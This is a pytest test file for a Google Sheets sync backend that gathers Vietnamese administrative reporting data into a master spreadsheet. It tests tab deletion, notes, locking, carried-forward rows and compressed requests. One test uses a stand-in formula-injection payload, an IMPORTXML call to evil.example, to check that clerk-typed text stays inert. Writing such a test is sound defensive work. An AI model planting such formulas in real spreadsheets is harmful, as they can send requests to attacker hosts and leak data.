"""Google backend behaviour the contract does not cover: tabs a person deleted or re-made,
notes a person wrote, locking, carried-forward rows, inert text in the master, compressed
answers."""

from __future__ import annotations

import dataclasses

import pytest

from cchc_sync.domain.config import ConfigError
from cchc_sync.domain.records import Unit
from cchc_sync.sources.base import SheetRef
from cchc_sync.sources.google.backend import GoogleBackend
from cchc_sync.sources.google.client import USER_AGENT
from cchc_sync.sources.google.create import LOCK_DESCRIPTION
from cchc_sync.sources.google.unit_sheet import unit_sheet_ids
from tests.contract.districts import PERIOD, GoogleDistrict, finding_keys
from tests.test_google_budget import TTHC_ROW, counts, cycle, registry


@pytest.fixture
def small(tmp_path):
    district = GoogleDistrict(tmp_path / "d", units_csv=registry(3), fill=False, data_rows=3)
    for unit in district.ws.units:
        district.fake.edit_cells(district.sheet_id(unit.code), "Giải quyết TTHC", "A2",
                                 [TTHC_ROW])
    cycle(district)
    cycle(district)  # the echoes of our own flag writes
    yield district
    district.close()


def cells(district, unit: str, tab: str) -> dict:
    dump = district.fake.spreadsheet(district.sheet_id(unit))
    return next(s for s in dump["sheets"] if s["title"] == tab)


def test_a_deleted_tab_is_one_finding_within_budget(small):
    sid = small.sheet_id("U001")
    ids = unit_sheet_ids(small.ws.templates)
    small.backend.transport.batch_update(sid, {
        "requests": [{"deleteSheet": {"sheetId": ids["Biên chế"]}}]})
    result, (reads, writes) = cycle(small)
    assert result.units_read == 1
    assert ("U001", "bien_che", None, "tab.missing") in finding_keys(small.ws)
    # list + refused values.batchGet + grid read of every tab + version check; flags + master
    assert reads <= 1 + 3 and writes <= 1 + 2
    assert small.fake.stats()["by_status"].get("400", 0) <= 1
    cycle(small)  # the echo of the flag write
    # The clerk makes the tab again: the next read sees it (one grid read, no refusal).
    header = [c.title for c in small.ws.templates.table("bien_che").columns]
    small.backend.transport.batch_update(sid, {
        "requests": [{"addSheet": {"properties": {"title": "Biên chế"}}}]})
    small.fake.edit_cells(sid, "Biên chế", "A1", [header])
    result, (reads, writes) = cycle(small)
    assert result.units_read == 1 and reads <= 1 + 3
    assert ("U001", "bien_che", None, "tab.missing") not in finding_keys(small.ws)
    assert small.fake.stats()["by_status"].get("400", 0) <= 1  # the flags' stale tab id


def test_a_tab_made_again_by_a_person_gets_its_flags_after_one_metadata_read(small):
    sid = small.sheet_id("U001")
    ids = unit_sheet_ids(small.ws.templates)
    tab = "Giải quyết TTHC"
    header = [c.title for c in small.ws.templates.table("tthc").columns]
    header += ["Giải trình", "Kết quả kiểm tra"]
    small.backend.transport.batch_update(sid, {"requests": [
        {"deleteSheet": {"sheetId": ids[tab]}},
        {"addSheet": {"properties": {"sheetId": 777, "title": tab}}},
    ]})
    small.fake.edit_cells(sid, tab, "A1", [header, ["Hộ tịch", 1, 1, 1, 5]])
    result, (reads, writes) = cycle(small)
    assert result.units_read == 1 and result.flags_written == 1
    assert reads <= 1 + 3 and writes <= 1 + 2
    status = cells(small, "U001", tab)["values"][1][len(header) - 1]
    assert status.startswith("✖")
    # The new id is remembered in the sheet itself: the next write needs no metadata.
    small.fake.edit_cells(sid, tab, "E2", [[3]])
    cycle(small)  # echo of the previous write, and this edit
    small.fake.edit_cells(sid, tab, "E2", [[4]])
    # A fresh process: a new backend object; it knows only the sheet and the archive.
    small.ws.backend = GoogleBackend.from_config(small.ws.config, data_rows=3)
    result, _ = cycle(small)
    by_kind = small.fake.stats()["by_kind"]
    assert result.flags_written == 1
    assert "GET spreadsheets.get" not in by_kind
    assert small.fake.stats()["by_status"].get("400", 0) == 0


def test_notes_a_person_wrote_stay_and_ours_go(small):
    sid = small.sheet_id("U002")
    tthc = unit_sheet_ids(small.ws.templates)["Giải quyết TTHC"]
    small.backend.transport.batch_update(sid, {"requests": [{"updateCells": {
        "start": {"sheetId": tthc, "rowIndex": 1, "columnIndex": 0},
        "rows": [{"values": [{"note": "Số liệu theo sổ theo dõi"}]}], "fields": "note"}}]})
    small.fake.edit_cells(sid, "Giải quyết TTHC", "E2", [[99]])  # breaks both identities
    cycle(small)
    sheet = cells(small, "U002", "Giải quyết TTHC")
    assert sheet["cells"]["A2"]["note"] == "Số liệu theo sổ theo dõi"
    assert "Tổng số hồ sơ tiếp nhận" in sheet["cells"]["E2"]["note"]
    small.fake.edit_cells(sid, "Giải quyết TTHC", "E2", [[6]])
    cycle(small)
    cycle(small)
    sheet = cells(small, "U002", "Giải quyết TTHC")
    assert sheet["cells"]["A2"]["note"] == "Số liệu theo sổ theo dõi"
    assert "note" not in sheet["cells"]["E2"]
    assert "backgroundColor" not in sheet["cells"]["E2"].get("userEnteredFormat", {})


def test_a_master_tab_gone_is_made_again(small):
    master = small.ws.archive.master(PERIOD)["ref"]
    dump = small.fake.spreadsheet(master)
    gone = next(s for s in dump["sheets"] if s["title"] == "Biên chế")
    small.backend.transport.batch_update(master, {
        "requests": [{"deleteSheet": {"sheetId": gone["sheetId"]}}]})
    small.fake.edit_cells(small.sheet_id("U000"), "Giải quyết TTHC", "B2", [[2]])
    result, _ = cycle(small)
    assert result.master_written
    titles = [s["title"] for s in small.fake.spreadsheet(master)["sheets"]]
    assert "Biên chế" in titles and titles[0] == "Tổng hợp"


def test_text_starting_with_equals_stays_text_in_the_master(small):
    formula = '=IMPORTXML("http://evil.example","//a")'
    # Typed as a clerk types it: the column is plain text, so it is not a formula.
    small.fake.edit_cells(small.sheet_id("U000"), "Thông tin", "A2", [[formula]])
    result, _ = cycle(small)
    assert result.master_written
    master = small.fake.spreadsheet(small.ws.archive.master(PERIOD)["ref"])
    sheet = next(s for s in master["sheets"] if s["title"] == "Thông tin")
    found = [c for c in sheet["cells"].values()
             if c.get("userEnteredValue", {}).get("stringValue") == formula]
    assert found and all("formulaValue" not in c["userEnteredValue"] for c in found)


def test_lock_and_unlock(small):
    ref = small.ws.archive.sheets(PERIOD)["U000"]
    sheet = SheetRef(ref=ref.ref, url=ref.url)
    small.fake.reset_stats()
    small.backend.set_read_only(sheet, True)
    assert counts(small.fake) == (1, 1)
    dump = small.fake.spreadsheet(sheet.ref)
    locked = {s["title"] for s in dump["sheets"]
              for p in s["protectedRanges"] if p["description"] == LOCK_DESCRIPTION}
    assert {"Giải quyết TTHC", "Thông tin", "Hướng dẫn"} <= locked
    with pytest.raises(PermissionError):
        small.fake.edit_cells(sheet.ref, "Giải quyết TTHC", "B2", [[5]])
    small.backend.set_read_only(sheet, True)  # already locked: nothing more written
    small.backend.set_read_only(sheet, False)
    small.fake.edit_cells(sheet.ref, "Giải quyết TTHC", "B2", [[5]])
    dump = small.fake.spreadsheet(sheet.ref)
    assert not [p for s in dump["sheets"] for p in s["protectedRanges"]
                if p["description"] == LOCK_DESCRIPTION]


def test_carried_forward_rows_are_typed_into_a_new_sheet(small):
    unit = Unit(code="MOI", name="Đơn vị mới", level="xa", emails=("moi@example.gov.vn",))
    ref = small.backend.create_unit_sheet(unit, small.ws.period, small.ws.templates, {
        "tthc": [{"linh_vuc": "Hộ tịch", "tu_ky_truoc": 12}],
        "bien_che": [{"co_quan": "UBND xã", "loai": "Công chức", "duoc_giao": 20}],
    })
    dump = small.fake.spreadsheet(ref.ref)
    values = {s["title"]: s["values"] for s in dump["sheets"]}
    assert values["Giải quyết TTHC"][1][:2] == ["Hộ tịch", "12"]
    assert values["Biên chế"][1][:3] == ["UBND xã", "Công chức", "20"]
    assert {p.get("emailAddress") for p in dump["permissions"]} >= {"moi@example.gov.vn"}


def test_from_config_needs_a_key(small):
    config = dataclasses.replace(
        small.ws.config, google=dataclasses.replace(small.ws.config.google, credentials=None))
    with pytest.raises(ConfigError, match="credentials"):
        GoogleBackend.from_config(config)


def test_every_request_asks_google_for_gzip(small):
    """Google compresses only with Accept-Encoding: gzip and "gzip" in the User-Agent."""
    assert "gzip" in USER_AGENT
    session = small.backend.transport.session
    sent: list = []
    session.hooks["response"].append(lambda r, *a, **k: sent.append(r.request.headers.copy()))
    try:
        small.fake.edit_cells(small.sheet_id("U001"), "Giải quyết TTHC", "E2", [[7]])
        cycle(small)
    finally:
        session.hooks["response"].clear()
    assert len(sent) >= 3  # the listing, the read, the flag write, ...
    for headers in sent:
        assert headers["Accept-Encoding"] == "gzip"
        assert headers["User-Agent"] == USER_AGENT
        assert headers["Authorization"].startswith("Bearer ")  # google-auth still signs
